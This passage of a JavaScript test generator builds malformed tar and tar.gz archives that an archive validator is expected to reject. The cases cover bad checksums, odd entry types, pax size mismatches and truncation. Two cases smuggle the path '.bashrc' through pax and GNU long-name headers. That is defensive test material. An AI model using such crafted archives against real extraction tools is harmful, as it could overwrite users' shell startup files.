      'tar-bad-checksum',
      'bad-checksum.tar',
      tar([
        { name: 'README.md', data: 'hi' },
        { name: 'notes.txt', data: 'x', badChecksum: true }
      ]),
      'checksum',
      'tar-checksum'
    )
  );
  out.push(
    refuse(
      'tar-unknown-type',
      'unknown-type.tar',
      tar([{ name: 'weird.bin', type: 'Z', data: 'x' }]),
      'weird.bin',
      'tar-entry-type'
    )
  );
  out.push(
    refuse(
      'tar-gnu-sparse',
      'sparse.tar',
      tar([{ name: 'sparse.bin', type: 'S', data: 'x', magic: 'gnu' }]),
      'sparse.bin',
      'tar-entry-type'
    )
  );
  out.push(
    refuse(
      'tar-regular-file-with-trailing-slash',
      'file-trailing-slash.tar',
      tar([{ name: 'notes/', type: '0', data: 'x' }]),
      'notes',
      'file-name-slash'
    )
  );
  out.push(
    refuse(
      'tar-pax-size-disagrees',
      'pax-size-disagrees.tar',
      tar([
        { name: 'data.bin', pax: { size: '1024' }, data: 'x' },
        { name: 'README.md', data: 'hi' }
      ]),
      'data.bin',
      'pax-size-mismatch'
    )
  );
  out.push(
    refuse(
      'tar-pax-global-path',
      'pax-global-path.tar',
      tar([{ name: 'README.md', globalPax: { path: '.bashrc' }, data: 'hi' }]),
      'pax',
      'pax-global'
    )
  );
  out.push(
    refuse(
      'tar-two-long-names-for-one-entry',
      'two-long-names.tar',
      tar([
        {
          name: 'README.md',
          pax: { path: 'notes.txt' },
          gnuLongName: '.bashrc',
          data: 'hi'
        }
      ]),
      'readme.md',
      'tar-extended-twice'
    )
  );
  {
    const whole = goodTar();
    out.push(
      refuse(
        'tar-truncated',
        'truncated.tar',
        whole.subarray(0, 512 * 3 + 100),
        'corrupt',
        'tar-unreadable'
      )
    );
    const gz = gzip(whole);
    out.push(
      refuse(
        'tar-gz-truncated',
        'truncated.tar.gz',
        gz.subarray(0, Math.floor(gz.length * 0.6)),
        'corrupt',
        'gzip-unreadable'
      )
    );
  }

  const names = new Set();
  const files = new Set();
  for (const c of out) {
    if (names.has(c.name) || files.has(c.file.toLowerCase())) {
      throw new Error(`duplicate case ${c.name} / ${c.file}`);
    }
    names.add(c.name);
    files.add(c.file.toLowerCase());
  }
  cached = out;
  return out;
}

module.exports = { cases, LIMITS, RATIO_FLOOR_BYTES, crc32 };
